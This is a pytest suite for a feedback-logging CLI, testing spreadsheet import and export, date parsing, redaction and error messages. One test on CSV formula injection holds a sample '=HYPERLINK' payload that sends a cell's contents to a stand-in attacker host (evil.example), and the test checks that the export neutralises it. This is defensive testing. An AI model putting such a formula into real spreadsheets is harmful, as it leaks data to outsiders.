"""The `frictionlog` command as an admin runs it."""

import csv
import io
import json
import re
from contextlib import closing
from datetime import datetime
from pathlib import Path

import pytest
from typer.testing import CliRunner

from adapters.cli import app

CLINC = Path(__file__).resolve().parent / "data" / "clinc150_sample.csv"  # shipped: see tests/data/README.md
runner = CliRunner()


@pytest.fixture
def cli(tmp_path, monkeypatch, database_url):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.setenv("FRICTIONLOG_EMBEDDINGS", "hashing")

    def run(*args: str):
        result = runner.invoke(app, list(args), catch_exceptions=False)
        return result

    return run


def write_csv(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def exported(cli, fmt: str = "csv") -> list[dict]:
    result = cli("export", "--format", fmt)
    assert result.exit_code == 0, result.output
    if fmt == "json":
        return json.loads(result.stdout)
    return list(csv.DictReader(io.StringIO(result.stdout)))


def test_import_export_round_trip_with_bad_rows(cli, tmp_path):
    source = write_csv(
        tmp_path / "past.csv",
        ["external_id", "created_at", "author", "kind", "tags", "text", "label"],
        [
            ["c-1", "2026-10-01T09:30:00Z", "dana", "policy", "refunds;approvals", "refund approval takes days", "x"],
            ["c-2", "2026-10-02", "", "", "", "refund approval from a supervisor is slow, mail a@b.com", "x"],
            ["c-3", "yesterday", "luis", "", "", "tracking link broken", "y"],
            ["c-4", "2026-10-03", "luis", "complaint", "", "hold times are long", "y"],
            ["c-5", "2026-10-03", "luis", "", "", "", "y"],
            ["c-6", "2026-10-04T12:00:00+02:00", "priya", "customer", "#shipping", "tracking link gives 404", "y"],
        ],
    )
    result = cli("import", str(source))
    assert result.exit_code == 0, result.output
    assert "imported 4, already there 0, bad 2" in result.stdout
    assert "Ignored columns: label" in result.stdout and "No id column" not in result.stdout
    shown = " ".join(result.output.split())
    assert "past.csv row 4: created_at 'yesterday' is not a date (try --day-first for 03/11)" in shown
    assert "past.csv row 5: kind 'complaint' is not one of policy, customer, other: logged as other" in shown
    assert "past.csv row 6: the text is empty" in shown

    rows = exported(cli)
    assert [r["external_id"] for r in rows] == ["c-1", "c-2", "c-4", "c-6"]
    assert rows[2]["kind"] == "other"
    assert list(rows[0]) == [
        "submission_id",
        "external_id",
        "created_at",
        "kind",
        "tags",
        "theme_key",
        "theme_title",
        "owner",
        "status",
        "resolution_note",
        "text",
        "author",
    ]
    rows = [r for r in rows if r["external_id"] != "c-4"]
    assert rows[0]["created_at"].startswith("2026-10-01T09:30:00")
    assert rows[2]["created_at"].startswith("2026-10-04T10:00:00")  # stored in UTC
    assert rows[0]["tags"] == "refunds;approvals" and rows[2]["tags"] == "shipping"
    assert rows[1]["text"].endswith("mail [email]") and rows[1]["author"] == ""
    assert rows[1]["kind"] in ("policy", "customer", "other")
    assert all(r["theme_key"].startswith("T-") and r["theme_title"] for r in rows)
    assert rows[0]["theme_key"] == rows[1]["theme_key"] != rows[2]["theme_key"]

    # The export imports back unchanged: nothing is added twice.
    (tmp_path / "export.csv").write_text(cli("export").stdout, encoding="utf-8")
    again = cli("import", str(tmp_path / "export.csv"))
    assert "imported 0, already there 4, bad 0" in again.stdout
    assert len(exported(cli)) == 4


def test_export_never_names_anonymous_authors(cli, tmp_path):
    from bot.settings import Settings

    assert cli("db", "upgrade").exit_code == 0
    from adapters.wiring import build_service
    from bot.messages import Inbound

    service = build_service(Settings())
    service.handle(Inbound(user="U1", user_name="dana", text="anon my lead blocks every waiver", platform="test"))
    service.handle(Inbound(user="U2", user_name="luis", text="waivers need a ticket to billing", platform="test"))
    records = exported(cli, "json")
    assert [r["author"] for r in records] == ["", "luis"]
    assert "dana" not in json.dumps(records) and "U1" not in json.dumps(records)
    out = tmp_path / "all.json"
    result = cli("export", "--format", "json", "--output", str(out))
    assert result.exit_code == 0 and len(json.loads(out.read_text())) == 2


def test_unreadable_lines_and_oversized_fields_are_bad_rows(cli, tmp_path):
    source = tmp_path / "messy.csv"
    source.write_text(
        "external_id,author,text\n"
        "m-1,dana,refund approval takes days\n"
        f'm-2,luis,"{"x" * 200_000}"\n'
        f"m-3,{'n' * 121},hold times are long\n"
        "m-4,priya,tracking link gives 404\n",
        encoding="utf-8",
    )
    result = cli("import", str(source))
    assert result.exit_code == 0, result.output
    assert "imported 2, already there 0, bad 2" in result.stdout
    shown = " ".join(result.output.split())
    assert "messy.csv row 3: not a readable CSV row (field larger than field limit" in shown
    assert "messy.csv row 4: author is 121 characters; the limit is 120" in shown
    assert [r["external_id"] for r in exported(cli)] == ["m-1", "m-4"]


def test_a_windows_1252_file_from_excel_is_read_as_it_is(cli, tmp_path):
    source = tmp_path / "excel.csv"
    source.write_bytes("text\nrefund approval takes days\nle délai est trop long\n".encode("cp1252"))
    result = cli("import", str(source))
    assert result.exit_code == 0 and "(Windows-1252)" in result.output
    assert [r["text"] for r in exported(cli)] == ["refund approval takes days", "le délai est trop long"]


def test_missing_text_column_is_a_clear_error(cli, tmp_path):
    source = write_csv(tmp_path / "bad.csv", ["foo", "bar"], [["hello", "x"]])
    result = cli("import", str(source))
    assert result.exit_code == 1
    shown = " ".join(result.output.split())
    assert "no column holds the text" in shown and "--text-column, one of: foo, bar" in shown


def test_spreadsheets_as_people_keep_them_import_with_mapping_dates_and_a_dry_run(cli, tmp_path):
    from openpyxl import Workbook

    semicolons = tmp_path / "team-a.csv"  # Excel in a European locale: semicolons, 03/11 is 3 November
    semicolons.write_text(
        "Complaint;Date;Agent\n"
        "refund approval takes three days;03/11/2026 14:05;dana\n"
        ";;\n"  # a blank row: skipped, not bad
        '"hold times are long\nevery evening";04/11/2026;luis\n'  # a cell over two lines is one row
        "tracking link broken;31/02/2026;priya\n",
        encoding="utf-8-sig",
    )
    workbook = Workbook()
    first = workbook.active
    first.title = "March"
    first.append(["Ticket", "Feedback", "Reported", "Category"])
    first.append(["T-100", "customers wait on hold for an hour", datetime(2026, 3, 9, 10, 0), "phones"])
    first.append([None, None, None, None])
    first.append(["T-101", "the returns label never prints", None, "returns"])
    second = workbook.create_sheet("April")
    second.append(["Notes", "When"])
    second.append(["refund approval needs a supervisor", "2026-04-02"])
    book = tmp_path / "team-b.xlsx"
    workbook.save(book)

    dry = cli("import", str(semicolons), str(book), "--day-first", "--date", "2026-03-31", "--dry-run")
    assert dry.exit_code == 0, dry.output
    shown = " ".join(dry.output.split())
    assert "would import 5, already there 0, bad 1" in shown and "Dry run: nothing was stored" in shown
    assert "team-a.csv row 5: Date '31/02/2026' is not a date" in shown  # the row as Excel numbers it
    assert "try --day-first" not in shown  # it was given: no day of February 31 either way
    assert "1 row had no date: dated by --date 2026-03-31" in shown
    assert "text ← Complaint" in shown and "created_at ← Date" in shown and "author ← Agent" in shown
    assert exported(cli) == []

    result = cli("import", str(semicolons), str(book), "--day-first", "--date", "2026-03-31")
    assert result.exit_code == 0 and "imported 5, already there 0, bad 1" in result.stdout
    rows = {r["text"]: r for r in exported(cli)}
    refund = rows["refund approval takes three days"]
    assert refund["created_at"].startswith("2026-11-03T14:05") and refund["author"] == "dana"
    assert "hold times are long\nevery evening" in rows
    customers, label = rows["customers wait on hold for an hour"], rows["the returns label never prints"]
    assert customers["external_id"] == "T-100" and customers["created_at"].startswith("2026-03-09")
    assert label["created_at"].startswith("2026-03-31") and "returns" in label["tags"]
    assert rows["refund approval needs a supervisor"]["created_at"].startswith("2026-04-02")
    again = cli("import", str(book))  # the workbook's rows have ticket ids: nothing twice
    assert "already there 2" in again.stdout
    only_april = cli("import", str(book), "--sheet", "April", "--text-column", "Notes", "--dry-run")
    assert "Read 1 rows" in only_april.stdout
    missing = cli("import", str(book), "--sheet", "May")
    assert missing.exit_code == 1 and "has no sheet 'May'" in " ".join(missing.output.split())


def test_an_xlsx_export_and_a_bom_csv_import_back_adding_nothing(cli, tmp_path):
    from openpyxl import load_workbook

    source = write_csv(tmp_path / "past.csv", ["text"], [["refund approval takes days"], ["=1+1 hold times"]])
    assert cli("import", str(source)).exit_code == 0
    xlsx, bom = tmp_path / "all.xlsx", tmp_path / "all.csv"
    assert cli("export", "--format", "xlsx", "--output", str(xlsx)).exit_code == 0
    assert cli("export", "--bom", "--output", str(bom)).exit_code == 0
    assert bom.read_bytes().startswith(b"\xef\xbb\xbf")
    sheet = load_workbook(xlsx).active
    cells = [[c.value for c in row] for row in sheet.iter_rows()]
    assert cells[0][:3] == ["submission_id", "external_id", "created_at"]
    assert "=1+1 hold times" in [row[10] for row in cells] and all(c.data_type == "s" for c in sheet["K"])
    for exported_file in (xlsx, bom):  # no external_id in the source: the submission ids carry it
        again = cli("import", str(exported_file))
        assert "imported 0, already there 2" in again.stdout, again.output
    assert len(exported(cli)) == 2


def test_clinc_import_themes_every_row_and_reimport_adds_nothing(cli, tmp_path):
    with open(CLINC, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    source = write_csv(
        tmp_path / "clinc.csv",
        ["external_id", "text", "label"],
        [[f"q{n}", r["text"], r["label"]] for n, r in enumerate(rows)],
    )
    first = cli("import", str(source))
    assert "imported 1500, already there 0, bad 0" in first.stdout
    records = exported(cli)
    assert len(records) == 1500 and all(r["theme_key"].startswith("T-") for r in records)
    second = cli("import", str(source))
    assert "imported 0, already there 1500" in second.stdout
    assert len(exported(cli)) == 1500


def test_themes_cluster_and_digest_commands(cli, tmp_path, monkeypatch):
    source = write_csv(
        tmp_path / "past.csv",
        ["created_at", "text"],
        [["2026-11-10T10:00:00Z", "refund approval takes days"]] * 2
        + [["2026-11-11T10:00:00Z", "hold times are long"]],
    )
    imported = cli("import", str(source))
    assert imported.exit_code == 0 and "No id column: importing these files again" in imported.stdout
    table = cli("themes")
    assert "T-" in table.stdout and "unowned" not in table.stdout and "new" in table.stdout
    clustered = cli("cluster")
    assert clustered.exit_code == 0 and "kept their key" in clustered.stdout
    monkeypatch.setenv("FRICTIONLOG_RECLUSTER_DAYS", "7")  # the rows are older than a week
    assert "3 submissions stayed where they were (pinned by a lead, or older than 7 days)" in cli("cluster").stdout
    assert "stayed where they were" not in cli("cluster", "--all").stdout
    again = cli("cluster", "--embed-again")
    assert again.exit_code == 0 and "embedding again" in again.output and "kept their key" in again.stdout
    digest = cli("digest", "--week", "2026-W46", "--format", "markdown")
    assert digest.exit_code == 0
    assert "# frictionlog weekly digest · 2026-W46" in digest.stdout and "**3** submissions" in digest.stdout
    html = cli("digest", "--week", "2026-W46", "--format", "html")
    assert html.stdout.startswith("<!doctype html>") and "data:image/png;base64," in html.stdout
    written = cli("digest", "--week", "2026-W46", "--format", "markdown", "--output", str(tmp_path / "w46.md"))
    assert written.exit_code == 0 and "w46-chart.png" in written.output
    assert (
        "![Line chart of submissions" in (tmp_path / "w46.md").read_text()
        and "](w46-chart.png)" in (tmp_path / "w46.md").read_text()
    )
    assert (tmp_path / "w46-chart.png").read_bytes()[:4] == b"\x89PNG"
    bad_week = cli("digest", "--week", "last week")
    assert bad_week.exit_code == 2 and "ISO week" in bad_week.output


def test_chat_shows_what_people_wrote_as_text(cli):
    typed = "mail me at a@b.com [/b] it is [bold]broken\nmine\n"  # "mine": their own words, shown back
    result = runner.invoke(app, ["chat", "--user", "U1"], input=typed)
    assert result.exit_code == 0, result.output
    assert "mail me at [email] [/b] it is [bold]broken" in result.output  # verbatim, not console markup
    assert "Logged as S-1" in result.output and "Traceback" not in result.output


def test_db_upgrade_on_an_unreachable_database_is_one_sentence(cli, monkeypatch):
    monkeypatch.setenv("DATABASE_URL", "postgresql+psycopg://frictionlog:s3cret@127.0.0.1:1/nowhere")
    result = cli("db", "upgrade")
    assert result.exit_code == 1
    assert "Cannot upgrade postgresql+psycopg://frictionlog:***@127.0.0.1:1/nowhere" in result.output
    assert "s3cret" not in result.output and "Traceback" not in result.output


def test_serve_on_a_port_already_taken_says_so_in_one_sentence(cli):
    import socket

    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        result = cli("serve", "--host", "127.0.0.1", "--port", str(port))
    assert result.exit_code == 1
    shown = " ".join(result.output.split())
    assert f"Cannot listen on 127.0.0.1:{port}: address already in use" in shown
    assert "Traceback" not in result.output


def test_serve_with_a_model_it_cannot_load_says_so_in_one_sentence(cli, monkeypatch, tmp_path):
    missing = tmp_path / "models" / "our-minilm"  # a typo in the path, or a volume not mounted
    monkeypatch.setenv("FRICTIONLOG_EMBEDDINGS", "local")
    monkeypatch.setenv("FRICTIONLOG_EMBEDDING_MODEL", str(missing))
    result = cli("serve", "--host", "127.0.0.1", "--port", "0")
    assert result.exit_code == 1
    shown = " ".join(result.output.split())
    assert f"Cannot load the embedding model local:{missing}:" in shown
    assert "Traceback" not in result.output


def test_every_command_has_help(cli):
    for command in (
        ["demo"],
        ["import"],
        ["export"],
        ["cluster"],
        ["themes"],
        ["chat"],
        ["digest"],
        ["serve"],
        ["db", "upgrade"],
    ):
        result = cli(*command, "--help")
        assert result.exit_code == 0 and "Usage" in result.output


def test_python_dash_m_runs_the_command():
    import subprocess
    import sys

    root = Path(__file__).resolve().parent.parent
    result = subprocess.run(
        [sys.executable, "-m", "adapters.cli", "--help"], cwd=root, capture_output=True, text=True, timeout=60
    )
    assert result.returncode == 0 and "Usage" in result.stdout and "import" in result.stdout


def test_cluster_after_a_switch_of_model_embeds_again_once_with_a_progress_bar(cli, tmp_path, monkeypatch):
    import adapters.wiring
    from tests.test_themes import TurnedHashing

    source = write_csv(tmp_path / "past.csv", ["text"], [["refund approval takes days"], ["hold times are long"]])
    assert cli("import", str(source)).exit_code == 0
    monkeypatch.setattr(adapters.wiring, "make_embedder", lambda settings: TurnedHashing())  # same size, other model
    switched = cli("cluster")
    assert switched.exit_code == 0, switched.output
    assert re.search(r"embedding again\b.*\b2/2\b", switched.output)  # the bar: done/total
    assert "2 stored submissions embedded again with turned-hashing" in switched.stdout
    again = cli("cluster")
    assert again.exit_code == 0 and "embedding again" not in again.output and "embedded again" not in again.stdout


def test_a_bad_setting_is_named_by_its_variable(cli, monkeypatch):
    monkeypatch.setenv("FRICTIONLOG_ACK_HOURS", "24h")
    monkeypatch.setenv("FRICTIONLOG_ENV", "prod")
    monkeypatch.setenv("FRICTIONLOG_MIN_GROUP", "2")
    monkeypatch.setenv("FRICTIONLOG_RECLUSTER_HOURS", "-6")  # re-clustering in a tight loop
    monkeypatch.setenv("FRICTIONLOG_OPENAI_TIMEOUT", "0")  # every model call failing at once
    result = cli("themes")
    assert result.exit_code == 2
    shown = " ".join(result.output.split())
    assert "FRICTIONLOG_ACK_HOURS: Input should be a valid integer" in shown
    assert "FRICTIONLOG_ENV: Input should be 'development' or 'production'" in shown
    assert "FRICTIONLOG_MIN_GROUP=2 would let a quote" in shown  # named once, by its own message
    assert "FRICTIONLOG_RECLUSTER_HOURS: Input should be greater than or equal to 0" in shown
    assert "FRICTIONLOG_OPENAI_TIMEOUT: Input should be greater than 0" in shown


def test_an_in_memory_database_is_refused_with_what_to_use_instead(cli, monkeypatch):
    """`sqlite://` is a new empty database for every connection: chat and serve stored nothing and
    failed on every message with a traceback."""
    monkeypatch.setenv("DATABASE_URL", "sqlite://")
    result = cli("chat", "--user", "U1")
    assert result.exit_code == 2
    shown = " ".join(result.output.split())
    assert "DATABASE_URL: an in-memory SQLite database" in shown and "sqlite:///frictionlog.db" in shown
    assert "Traceback" not in result.output


def test_writing_into_a_folder_that_is_not_there_is_one_sentence(cli, tmp_path):
    assert cli("db", "upgrade").exit_code == 0
    for command in (
        ["export", "--output", str(tmp_path / "nope" / "all.csv")],
        ["export", "--format", "xlsx", "--output", str(tmp_path / "nope" / "all.xlsx")],
        ["digest", "--output", str(tmp_path / "nope" / "digest.txt")],
        ["digest", "--format", "markdown", "--output", str(tmp_path / "nope" / "digest.md")],
    ):
        result = cli(*command)  # catch_exceptions=False: a traceback would raise here
        assert result.exit_code == 1, command
        shown = " ".join(result.output.split())
        assert f"Cannot write {command[-1]}: there is no folder {tmp_path / 'nope'}" in shown
    assert not (tmp_path / "nope").exists()


def test_a_csv_export_runs_no_formula_in_excel_and_imports_back_as_stored(cli, tmp_path):
    texts = [
        '=HYPERLINK("http://evil.example/?d="&A1,"refund approval is slow")',
        "@SUM(1+1) hold times are long",
        "+1 for the returns label",
        "- tracking link broken",
        "'=already quoted by someone",
        "refund approval takes days",
    ]
    source = write_csv(tmp_path / "past.csv", ["author", "text"], [["-dana", text] for text in texts])
    assert cli("import", str(source)).exit_code == 0
    rows = exported(cli)
    assert [r["text"] for r in rows] == [
        '\'=HYPERLINK("http://evil.example/?d="&A1,"refund approval is slow")',
        "'@SUM(1+1) hold times are long",
        "'+1 for the returns label",
        "'- tracking link broken",
        "''=already quoted by someone",
        "refund approval takes days",
    ]
    assert {r["author"] for r in rows} == {"'-dana"}
    (tmp_path / "export.csv").write_text(cli("export").stdout, encoding="utf-8")
    again = cli("import", str(tmp_path / "export.csv"))
    assert "imported 0, already there 6, bad 0" in again.stdout, again.output
    stored = exported(cli, "json")  # JSON is not opened as a sheet: as stored
    assert [r["text"] for r in stored] == texts and {r["author"] for r in stored} == {"-dana"}


def test_a_sheet_without_a_text_column_is_named_and_the_others_import(cli, tmp_path):
    from openpyxl import Workbook

    book = Workbook()
    totals = book.active
    totals.title = "Summary"  # a totals sheet before the data, as many workbooks have
    totals.append(["Total", "Count"])
    totals.append(["all", 2])
    march = book.create_sheet("March")
    march.append(["Ticket", "Complaint"])
    march.append(["t-1", "refund approval takes days"])
    march.append(["t-2", ""])
    april = book.create_sheet("April")
    april.append(["Ticket", "Complaint"])
    april.append(["t-3", "hold times are long in the evening"])
    path = tmp_path / "complaints.xlsx"
    book.save(path)
    result = cli("import", str(path))
    assert result.exit_code == 1  # something was not imported: a script notices
    shown = " ".join(result.output.split())
    assert "Cannot import complaints.xlsx › Summary: no column holds the text" in shown
    assert "Reading complaints.xlsx › March … columns: text ← Complaint, external_id ← Ticket" in shown
    assert "imported 1, already there 0, bad 1 Reading complaints.xlsx › April" in shown  # March's own count
    assert "Read 3 rows: imported 2, already there 0, bad 1." in result.stdout
    assert "Not imported: complaints.xlsx › Summary." in result.stdout
    assert [r["external_id"] for r in exported(cli)] == ["t-1", "t-3"]


def test_dates_without_an_offset_are_the_configured_zone_s_wall_clock(cli, tmp_path, monkeypatch):
    from openpyxl import Workbook

    monkeypatch.setenv("FRICTIONLOG_TIMEZONE", "America/New_York")
    source = write_csv(
        tmp_path / "nov.csv",
        ["ticket", "date", "text"],
        [
            ["t-1", "2026-11-23", "refund approval takes days"],  # a Monday: week 48 in New York
            ["t-2", "11/23/2026 09:30", "hold times are long"],
            ["t-3", "2026-11-23T09:30:00Z", "tracking link gives 404"],  # an offset of its own: as it says
            ["t-4", "", "the returns label never prints"],
        ],
    )
    book = Workbook()
    book.active.append(["Ticket", "Complaint", "Reported"])
    book.active.append(["t-5", "customers wait on hold for an hour", datetime(2026, 11, 23, 8, 0)])
    book.save(tmp_path / "nov.xlsx")
    result = cli("import", str(source), str(tmp_path / "nov.xlsx"), "--date", "2026-11-24")
    assert result.exit_code == 0, result.output
    created = {r["external_id"]: r["created_at"] for r in exported(cli)}
    assert created == {
        "t-1": "2026-11-23T05:00:00+00:00",
        "t-2": "2026-11-23T14:30:00+00:00",
        "t-3": "2026-11-23T09:30:00+00:00",
        "t-4": "2026-11-24T05:00:00+00:00",
        "t-5": "2026-11-23T13:00:00+00:00",
    }
    assert "**5** submissions" in cli("digest", "--week", "2026-W48", "--format", "markdown").stdout


def test_a_one_column_file_keeps_its_commas_and_extra_values_are_bad_rows(cli, tmp_path):
    single = tmp_path / "list.csv"
    single.write_text(
        'Complaint\nrefund approval takes days, and customers call back twice\n"hold times, evenings"\n',
        encoding="utf-8",
    )
    wide = tmp_path / "wide.csv"
    wide.write_text(
        "ticket,text\nw-1,tracking link broken\nw-2,label never prints, twice a day\nw-3,returns are slow,\n",
        encoding="utf-8",
    )
    result = cli("import", str(single), str(wide))
    assert result.exit_code == 0, result.output
    assert "imported 4, already there 0, bad 1" in result.stdout
    shown = " ".join(result.output.split())
    assert "wide.csv row 3: 3 values for 2 columns: ' twice a day' …" in shown
    assert {r["text"] for r in exported(cli)} == {
        "refund approval takes days, and customers call back twice",
        "hold times, evenings",
        "tracking link broken",
        "returns are slow",  # an empty value past the header (a trailing comma) is no value
    }


def test_a_workbook_named_csv_is_called_a_zip(cli, tmp_path):
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["text"])
    book.active.append(["refund approval takes days"])
    book.save(tmp_path / "complaints.csv")  # an .xlsx saved under a .csv name
    result = cli("import", str(tmp_path / "complaints.csv"))
    assert result.exit_code == 1
    shown = " ".join(result.output.split())
    assert "complaints.csv: complaints.csv is a zip (an Excel workbook?): name it .xlsx" in shown


def test_a_utf16_file_is_read_as_utf16(cli, tmp_path):
    # Excel's "Unicode Text": UTF-16 with a byte-order mark, tab-separated.
    source = tmp_path / "unicode.txt"
    source.write_bytes("Ticket\tComplaint\nu-1\tle délai est trop long, toujours\n".encode("utf-16"))
    result = cli("import", str(source))
    assert result.exit_code == 0 and "(UTF-16)" in result.output, result.output
    assert [(r["external_id"], r["text"]) for r in exported(cli)] == [("u-1", "le délai est trop long, toujours")]


def test_control_characters_in_an_author_or_id_neither_stop_an_import_nor_an_xlsx_export(cli, tmp_path):
    from openpyxl import load_workbook
    from sqlmodel import Session, select

    from bot.settings import Settings
    from storage.db import make_engine
    from storage.models import Submission

    source = write_csv(
        tmp_path / "legacy.csv",
        ["ticket", "author", "text"],
        [["t\x01-1", "dana\x1b", "refund approval takes days"], ["t-2", "luis", "hold times are long"]],
    )
    assert cli("import", str(source)).exit_code == 0
    assert [(r["external_id"], r["author"]) for r in exported(cli)] == [("t-1", "dana"), ("t-2", "luis")]
    engine = make_engine(Settings().database_url)
    with Session(engine) as session:  # as an import before this cleaning stored it
        luis = session.exec(select(Submission).where(Submission.author == "luis")).one()
        luis.author = "lu\x1bis\x07"  # characters a worksheet cannot hold
        session.add(luis)
        session.commit()
    engine.dispose()
    xlsx = tmp_path / "all.xlsx"
    result = cli("export", "--format", "xlsx", "--output", str(xlsx))
    assert result.exit_code == 0, result.output
    cells = [[c.value for c in row] for row in load_workbook(xlsx).active.iter_rows()]
    assert [(row[1], row[11]) for row in cells[1:]] == [("t-1", "dana"), ("t-2", "luis")]


def test_a_submission_id_too_large_for_any_database_is_a_bad_row(cli, tmp_path):
    source = tmp_path / "typed.csv"
    source.write_text(
        "submission_id,text\nS-99999999999999999999,refund approval takes days\nS-2,hold times are long\n",
        encoding="utf-8",
    )
    result = cli("import", str(source))
    assert result.exit_code == 0, result.output
    assert "imported 1, already there 0, bad 1" in result.stdout
    shown = " ".join(result.output.split())
    assert "typed.csv row 2: submission_id 'S-99999999999999999999' is no submission's: too large" in shown
    assert [r["text"] for r in exported(cli)] == ["hold times are long"]


def test_a_dry_run_counts_an_id_repeated_across_files_as_the_import_does(cli, tmp_path):
    one = write_csv(tmp_path / "a.csv", ["ticket", "text"], [["t-1", "refund approval takes days"]])
    two = write_csv(
        tmp_path / "b.csv", ["ticket", "text"], [["t-1", "refund approval takes days"], ["t-2", "hold times"]]
    )
    dry = cli("import", str(one), str(two), "--dry-run")
    assert "would import 2, already there 1, bad 0" in dry.stdout, dry.output
    real = cli("import", str(one), str(two))
    assert "imported 2, already there 1, bad 0" in real.stdout, real.output


def test_commands_that_only_read_leave_an_unrelated_sqlite_database_alone(cli, tmp_path, monkeypatch):
    import sqlite3

    other, empty = tmp_path / "crm.db", tmp_path / "empty.db"
    with closing(sqlite3.connect(other)) as connection, connection:
        connection.execute("create table customers (id integer)")
    empty.touch()
    for database in (other, empty):
        monkeypatch.setenv("DATABASE_URL", f"sqlite:///{database}")
        for command in (["export"], ["themes"], ["digest"], ["outbox"], ["targets"], ["cluster"]):
            result = cli(*command)
            assert result.exit_code == 1, (database, command, result.output)
            assert "There is no frictionlog database at" in " ".join(result.output.split())
    with closing(sqlite3.connect(other)) as connection:
        tables = {name for (name,) in connection.execute("select name from sqlite_master where type='table'")}
    assert tables == {"customers"} and empty.stat().st_size == 0
    assert sorted(path.name for path in tmp_path.iterdir()) == ["crm.db", "empty.db"]  # no -wal, no .lock


def test_the_readme_command_table_names_every_option_help_shows():
    """README's table of `frictionlog` commands is where a new user looks first: an option
    --help shows and the table leaves out is one they never hear of."""
    import typer.main

    readme = (Path(__file__).resolve().parent.parent / "README.md").read_text()
    rows = {m[1]: m[0] for m in re.finditer(r"^\| `frictionlog ([a-z-]+(?: upgrade)?)[ `].*$", readme, re.M)}
    group = typer.main.get_command(app)
    for name, command in group.commands.items():
        for sub_name, sub in getattr(command, "commands", {name: command}).items():
            full = name if sub is command else f"{name} {sub_name}"
            assert full in rows, f"README's command table has no row for frictionlog {full}"
            head = rows[full].split("` |", 1)[0]
            for option in sub.params:
                if option.name != "help" and option.param_type_name == "option":
                    assert option.opts[0] in head, f"README's row for frictionlog {full} lacks {option.opts[0]}"
